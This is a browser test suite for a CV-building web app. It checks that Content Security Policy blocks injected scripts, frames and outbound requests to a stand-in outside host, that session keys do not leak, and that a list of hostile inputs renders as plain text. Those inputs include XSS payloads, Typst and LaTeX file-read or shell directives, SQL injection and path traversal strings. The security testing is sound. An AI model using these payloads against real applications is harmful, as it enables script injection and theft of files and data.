import { education } from '../../shared/entries/education.ts';
import { document as cv, entry, person, portfolio, section, work } from '../builders/portfolio.ts';
import { expect, test } from './host.ts';

test('the page runs nothing of others and reaches nobody: every probe is refused', async ({ host, app, page, watch }) => {
  watch.allow(/Content Security Policy|Refused to|violates the following/);
  const file = await host.sample();
  await app.open((await host.serve(file)).url);
  await expect(app.heading('Ilse Varga-Whitlock')).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    const put = <K extends keyof HTMLElementTagNameMap>(tag: K, fill: (element: HTMLElementTagNameMap[K]) => void) => {
      const element = document.createElement(tag);
      fill(element);
      document.body.append(element);
      return element;
    };
    const outside = 'https://outside.example.org/';
    const ran: string[] = [];
    Object.assign(window, { probe: (name: string) => ran.push(name) });

    put('script', (script) => script.append('probe("inline script")'));
    put('script', (script) => (script.src = `${outside}a.js`));
    put('script', (script) => (script.src = 'data:text/javascript,probe("data script")'));
    put('div', (box) => (box.innerHTML = '<img src="data:," onerror="probe(\'handler\')"><svg onload="probe(\'svg\')"></svg>'));
    put('img', (image) => (image.src = `${outside}a.png`));
    put('iframe', (frame) => (frame.src = `${outside}a.html`));
    put('iframe', (frame) => (frame.srcdoc = '<script>parent.probe("frame")</script>'));
    put('object', (object) => (object.data = `${outside}a.swf`));
    put('link', (link) => Object.assign(link, { rel: 'stylesheet', href: `${outside}a.css` }));
    put('style', (style) => style.append('body { --probe: 1 }'));
    put('base', (base) => (base.href = outside));
    put('video', (video) => (video.src = `${outside}a.mp4`));
    put('a', (link) => (link.href = 'javascript:probe("address")')).click();
    put('form', (form) => Object.assign(form, { action: `${outside}form`, method: 'post' })).submit();
    // In a task of the page's own: what a test driver evaluates itself is let through.
    await new Promise<void>((done) => {
      setTimeout(() => {
        try {
          // biome-ignore lint/security/noGlobalEval: the probe itself
          window.eval('probe("eval")');
        } catch {}
        try {
          new Function('probe("function")')();
        } catch {}
        done();
      });
    });
    try {
      new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))).onmessage = () => ran.push('worker');
    } catch {}
    try {
      new WebSocket('wss://outside.example.org/').onopen = () => ran.push('socket');
    } catch {}
    const calls = await Promise.allSettled([
      fetch(outside),
      fetch(outside, { mode: 'no-cors', method: 'POST', body: 'x' }),
      import(/* @vite-ignore */ `${outside}a.mjs`),
    ]);
    ran.push(...calls.flatMap((call, index) => (call.status === 'fulfilled' ? [`call ${index}`] : [])));
    if (navigator.sendBeacon(`${outside}beacon`, 'x')) refused.push('beacon queued');
    await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    const style = getComputedStyle(document.body).getPropertyValue('--probe');
    return { ran, refused: [...new Set(refused)], style, base: document.baseURI };
  });
  expect(outcome.ran).toEqual([]);
  expect(outcome.style).toBe('');
  expect(outcome.base).not.toContain('outside.example.org');
  for (const directive of [
    'script-src-elem',
    'script-src-attr',
    'img-src',
    'frame-src',
    'connect-src',
    'form-action',
    'worker-src',
    'style-src-elem',
    'media-src',
    'object-src',
    'base-uri',
  ])
    await expect.poll(() => outcome.refused, directive).toContain(directive);
  expect(new URL(page.url()).origin).toBe([...host.origins][0]);
});

test('the key of the run is in no address, history or lasting store, and no other site can use the program', async ({
  host,
  app,
  page,
  request,
}) => {
  const server = await host.serve(await host.sample());
  const key = new URL(server.url).hash.slice(3);
  expect(key).toMatch(/^[\w-]{43}$/);
  await app.open(server.url);
  await expect(app.heading('Ilse Varga-Whitlock')).toBeVisible();
  await app.go('Works');
  expect(page.url()).not.toContain(key);
  const held = await page.evaluate(() => ({
    lasting: JSON.stringify({ ...localStorage }) + document.cookie,
    state: JSON.stringify(history.state),
    html: document.documentElement.outerHTML,
    addresses: performance
      .getEntries()
      .map((one) => one.name)
      .join(' '),
  }));
  for (const [where, text] of Object.entries(held)) if (where !== 'addresses') expect(text, where).not.toContain(key);
  await page.goBack();
  expect(page.url()).not.toContain(key);
  await expect(app.heading('Ilse Varga-Whitlock')).toBeVisible();
  await page.reload();
  await expect(app.heading('Ilse Varga-Whitlock')).toBeVisible();

  const call = (headers: Readonly<Record<string, string>>) =>
    request.post(`${server.origin}/api/session.portfolio`, { headers: { 'content-type': 'application/json', ...headers }, data: {} });
  expect((await call({})).status()).toBeGreaterThanOrEqual(400);
  expect((await call({ 'x-scholarfolio-token': 'x'.repeat(43) })).status()).toBeGreaterThanOrEqual(400);
  expect((await call({ 'x-scholarfolio-token': key, origin: 'https://outside.example.org' })).status()).toBeGreaterThanOrEqual(400);
  expect((await call({ 'x-scholarfolio-token': key, origin: server.origin })).status()).toBe(200);
});

/** Printed letter by letter: none of them has a meaning in the text that a CV may carry. */
const printed: readonly string[] = [
  '<script>probe("1")</script>',
  '<img src=x onerror=probe("2")>',
  '<svg onload=probe("3")>',
  '<svg><script>probe("4")</script></svg>',
  '"><script src=https://outside.example.org/a.js></script>',
  "' onmouseover='probe(5)",
  '<iframe src=javascript:probe(6)>',
  '<a href="javascript:probe(7)">x</a>',
  '<math><mtext><style><img src=x onerror=probe(8)>',
  '</style></title></textarea><b>bold</b>',
  '<!-- comment -->',
  '&lt;script&gt;&amp;&quot;&#x41;',
  'javascript:probe(9)',
  'data:text/html,<b>x</b>',
  '{{7+7}} #{7+7} <%= 7+7 %>',
  '#read("/etc/passwd")',
  '#import "/etc/passwd": x',
  '#eval("1+1")',
  '#set text(fill: white)',
  '#pagebreak() #panic("x")',
  '#image("https://outside.example.org/a.png")',
  '#let x = plugin("a.wasm")',
  '@preview/package:1.0.0',
  '<label> @label',
  '= Heading',
  '/ term: description',
  'a ~ b -- c --- d ... e',
  '/* comment */ // comment',
  '=SUM(A1:A9)',
  "'; DROP TABLE works; --",
  '../../../../etc/passwd',
  'C:\\Windows\\System32\\',
  '\\input{/etc/passwd} \\write18{id}',
  '%s %d %n %x',
  'constructor prototype toString',
  '{"kind":"batch","commands":[]}',
  'on the 1. of May',
  'ﬁ ß İ ı Å é ñ ž',
];

/** No font draws them, or they turn the direction of writing: shown as they are, told under Checks, never a danger. */
const unusual: readonly string[] = [
  'right \u202Eto left\u202C',
  'שלום and مرحبا',
  'zero\u200Bwidth\u200D\uFEFF',
  'bell\u0007 escape\u001B[31m',
  'joined e\u0301\u0302\u0303',
  'emoji 👩‍🔬',
];

function hostilePortfolio(strings: readonly string[]) {
  const entries = strings.flatMap((text, i) => [
    entry('education', `e${i}`, 'ada', {
      degree: text,
      area: text,
      organisation: text,
      department: text,
      result: text,
      location: text,
      note: text,
      details: [
        { label: text, text },
        { role: text, text },
      ],
    }),
    entry('employment', `j${i}`, 'ada', { role: text, organisation: text, unit: text, location: text, details: [{ text }] }),
    entry('award', `a${i}`, 'ada', { title: text, awarder: text, value: text }),
    entry('skill-group', `k${i}`, 'ada', { label: text, items: [{ name: text, items: [text] }] }),
    entry('service', `s${i}`, 'ada', { activity: text, organisation: text, location: text }),
    entry('custom', `c${i}`, 'ada', { label: text, text }),
  ]);
  const works = strings.map((text, i) =>
    work(`w${i}`, 'article-journal', {
      title: text,
      'container-title': text,
      publisher: text,
      volume: text,
      issue: text,
      page: text,
      note: text,
      abstract: text,
      keyword: text,
      contributors: [{ name: { family: text, given: text }, role: 'author' }],
    }),
  );
  const ada = {
    ...person('ada', 'Ada', 'Example'),
    headline: strings.join(' | '),
    biography: strings.join('\n'),
    contacts: [{ id: 'c', kind: 'phone' as const, value: strings[0] ?? '', label: strings[0] }],
  };
  return portfolio({
    people: [ada],
    entries,
    works,
    documents: [
      cv(
        'ada',
        [
          ...strings.slice(0, 8).map((text, i) => section(`h${i}`, 'text', { heading: text, text })),
          section('Education', 'entries', { kinds: ['education'] }),
          section('Jobs', 'entries', { kinds: ['employment'] }),
          section('Awards', 'bullets', { kinds: ['award'] }),
          section('Skills', 'lines', { kinds: ['skill-group'] }),
          section('Service', 'run-in', { kinds: ['service'], label: strings[1] }),
          section('Texts', 'lines', { kinds: ['custom'] }),
          section('Works', 'references', { works: ['all'] }),
        ],
        { header: { headline: true, contacts: [{ contact: 'c', show: 'label', text: strings[2] }] } },
      ),
    ],
  });
}

/** Letters only: how lines are broken and which quotes are printed says nothing about safety. */
const bare = (text: string) => text.normalize('NFKC').replace(/[\s\u00AD\u2010\u2011‘’“”"'-]/g, '');

test('hostile text in every field of a file is text: in the window, in the preview and on the exported pages', async ({
  host,
  app,
  page,
}) => {
  test.setTimeout(90_000);
  const stories: string[] = [];
  page.on('dialog', (dialog) => stories.push(dialog.message()));
  await page.exposeFunction('probe', (name: string) => stories.push(name));
  const file = host.write('hostile.json', hostilePortfolio(printed));
  await app.open((await host.serve(file)).url);
  await expect(app.heading('Ada Example')).toBeVisible();
  for (const screen of ['Education', 'Positions', 'Awards', 'Skills', 'Service and community', 'Free text']) {
    await app.go(screen);
    await expect(app.rows(screen)).toHaveCount(printed.length);
  }
  await app.go('Education');
  for (const [index, text] of printed.entries()) {
    await app.rows('Education').getByRole('link').nth(index).click();
    await expect(app.openForm.field('Degree')).toHaveText(text, { useInnerText: true });
    await expect(app.openForm.field('Line 1')).toHaveText(text, { useInnerText: true });
  }
  await app.go('Works');
  await expect(app.rows('Works').getByRole('link').first()).toBeVisible();
  await expect(app.preview.pages.first()).toBeVisible();

  const text = bare(await app.exportText());
  for (const hostile of printed) expect(text.split(bare(hostile)).length, hostile).toBeGreaterThan(6);
  expect(text).not.toContain('root:x:0:0');
  expect(stories).toEqual([]);
  expect(await page.locator('script:not([src^="./assets/"], [src^="/assets/"]), iframe, object, embed').count()).toBe(0);
});

test('hostile text that is typed is text, too', async ({ host, app, page }) => {
  test.setTimeout(90_000);
  const stories: string[] = [];
  page.on('dialog', (dialog) => stories.push(dialog.message()));
  await page.exposeFunction('probe', (name: string) => stories.push(name));
  const file = host.write('typed.json', portfolio({ people: [person('ada', 'Ada', 'Example')], documents: [cv('ada', [])] }));
  await app.open((await host.serve(file)).url);
  await app.addEntry('Education', education.name.one);
  const all = [...printed, ...unusual];
  for (const text of all) {
    await app.openForm.field('Degree').fill(text);
    await expect(app.openForm.field('Degree')).toHaveText(text, { useInnerText: true });
    await app.openForm.field('Dates').fill(text);
    await expect(app.openForm.field('Dates')).toHaveAccessibleDescription(/^Not understood/);
  }
  await page.keyboard.press('Control+k');
  await app.palette.fill(printed[0] ?? '');
  await expect(page.getByText(`Nothing found for “${printed[0]}”`)).toBeVisible();
  await page.keyboard.press('Escape');
  await app.go('Checks');
  await expect(page.getByRole('region', { name: 'Unfinished fields' })).toContainText('emoji 👩‍🔬');
  await app.saved();
  await page.reload();
  await expect(page.getByRole('region', { name: 'Unfinished fields' })).toContainText('emoji 👩‍🔬');
  expect(stories).toEqual([]);
});

test('unusual characters are shown, named under Checks where no font draws them, and never printed as something else', async ({
  host,
  app,
  page,
}) => {
  const file = host.write('unusual.json', hostilePortfolio(unusual));
  await app.open((await host.serve(file)).url);
  await app.go('Awards');
  for (const [index, text] of unusual.entries()) {
    await app.rows('Awards').getByRole('link').nth(index).click();
    expect(await app.openForm.field('Award').evaluate((element) => element.textContent)).toBe(text);
  }
  await app.go('Checks');
  await expect(page.getByRole('region', { name: 'Stops an export' }).getByRole('listitem').first()).toBeVisible();
  const refused = await host.run('export', file, '--document', 'CV', '--format', 'pdf', '--out', host.at('no.pdf'));
  expect(refused.code).toBe(1);
  expect(refused.stderr).toMatch(/font|character/i);
});
